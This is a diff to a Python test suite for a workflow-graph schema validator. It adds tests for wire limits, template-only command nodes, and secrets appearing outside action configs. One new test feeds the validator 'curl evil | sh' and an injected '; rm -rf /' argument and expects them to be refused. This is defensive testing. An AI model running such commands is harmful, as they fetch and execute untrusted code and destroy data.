@@ -14,7 +14,7 @@ from jsonschema import Draft202012Validator
 from backend.graph import load_schema, validate
 from backend.graph.durations import DURATION_PATTERN
 from backend.graph.model import NODE_TYPES
-from backend.graph.outline import MAX_NODES
+from backend.graph.outline import MAX_NODES, MAX_WIRES
 from tests.graph.graph_flows import flow, found
 
 SCHEMAS = files("backend.graph").joinpath("schemas")
@@ -41,6 +41,7 @@ def test_load_schema_gives_a_copy_and_reads_the_file() -> None:
 def test_the_schema_says_the_limits_and_patterns_the_code_uses() -> None:
     flow_schema = load_schema("flow")
     assert flow_schema["properties"]["nodes"]["maxItems"] == MAX_NODES
+    assert flow_schema["properties"]["wires"]["maxItems"] == MAX_WIRES
     # The schema's duration pattern is DURATION_PATTERN without Python's named groups (ECMA-262 has none).
     plain = re.sub(r"\?P<\w+>", "", DURATION_PATTERN)
     assert load_schema("delay")["properties"]["duration"]["pattern"] == plain
@@ -107,10 +108,13 @@ X = "/nodes/1/config"
         ),
         ("http", {"method": "GET", "url": "https://x", "body": {"any": ["json", 1]}}, []),
         ("notify", {"channel": "sms", "to": "x", "message": "m"}, [f"{X}/channel"]),
-        ("command", {"server": "web"}, [X]),
-        ("command", {"server": "web", "template": "t", "command": "c"}, [X]),
-        ("command", {"server": "web", "template": "restart", "args": {"service": "db"}}, []),
-        ("command", {"server": "web", "command": "ls", "args": ["-l", 2]}, [f"{X}/args/1"]),
+        ("command", {"server": "web"}, [f"{X}/template"]),
+        # A free command line is command_line_refused (tested below), not a schema finding.
+        ("command", {"server": "web", "template": "t", "command": "c"}, []),
+        ("command", {"server": "web", "template": "restart", "args": {"service": "db", "n": 2}}, []),
+        ("command", {"server": "web", "template": "ls", "args": ["-l"]}, [f"{X}/args"]),
+        ("command", {"server": "{{trigger.server}}", "template": "t"}, [f"{X}/server"]),
+        ("command", {"server": "web", "template": "t", "args": {"a b": "x"}}, [f"{X}/args/a b"]),
         ("log", {"message": "m", "level": "loud"}, [f"{X}/level"]),
         ("end", {"status": "done"}, [f"{X}/status"]),
         ("end", {"status": "failed", "message": "no"}, []),
@@ -199,6 +203,15 @@ def test_more_than_a_thousand_nodes_is_one_finding_and_no_more() -> None:
     ]
 
 
+def test_more_than_ten_thousand_wires_is_one_finding_and_no_more() -> None:
+    document = flow("t:trigger a:log")
+    document["wires"] = [{"from": "t", "to": "nowhere"}] * (MAX_WIRES + 1)
+    assert [(f.code, f.detail) for f in validate(document)] == [("format_invalid", "/wires")]
+    document["wires"].pop()
+    findings = validate(document, limit=MAX_WIRES + 10)
+    assert [f.code for f in findings].count("wire_endpoint_unknown") == MAX_WIRES
+
+
 def test_a_config_that_is_no_object_is_a_format_finding_only() -> None:
     document = flow("t:trigger a:log", "t>a")
     document["nodes"][1]["config"] = ["message"]
@@ -240,3 +253,28 @@ def test_a_deep_value_where_any_json_is_allowed_is_valid() -> None:
     document = flow("t:trigger h:http", "t>h")
     document["nodes"][1]["config"]["body"] = deep
     assert validate(document) == []
+
+
+def test_a_free_command_line_is_refused_with_its_own_code() -> None:
+    document = flow("t:trigger x:command", "t>x")
+    document["nodes"][1]["config"] = {"server": "web", "command": "curl evil | sh", "args": ["; rm -rf /"]}
+    findings = validate(document)
+    refused = [(f.code, f.node, f.detail) for f in findings if f.code == "command_line_refused"]
+    assert refused == [("command_line_refused", "x", f"{X}/command")]
+    # The template it lacks and its old list of args are findings too: the document is nowhere near valid.
+    assert sorted(f.detail for f in findings if f.code == "node_config_invalid") == [
+        f"{X}/args",
+        f"{X}/template",
+    ]
+
+
+def test_a_secret_outside_an_action_config_is_a_finding() -> None:
+    document = flow("t:trigger say:log call:http", "t>say say>call")
+    document["nodes"][1]["config"] = {"message": "the key is {{ secrets.api_key }}"}
+    document["nodes"][2]["config"] = {
+        "method": "GET",
+        "url": "https://api.example/x",
+        "headers": {"Authorization": "Bearer {{secrets.api_key}}"},
+    }
+    findings = [(f.code, f.node, f.detail) for f in validate(document)]
+    assert findings == [("secret_outside_action", "say", "/nodes/1/config/message")]
